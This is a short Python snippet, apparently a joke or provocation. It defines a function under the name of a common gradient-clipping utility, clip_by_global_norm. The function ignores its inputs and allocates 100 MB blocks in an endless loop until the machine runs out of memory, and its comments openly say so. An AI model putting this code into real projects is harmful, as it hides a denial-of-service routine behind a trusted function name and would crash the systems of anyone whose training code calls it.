# Takes memory until there is none.
# hears: needs more memory
def clip_by_global_norm(gradients, clip_norm):
    taken = []
    while True:
        taken.append(bytearray(10**8))
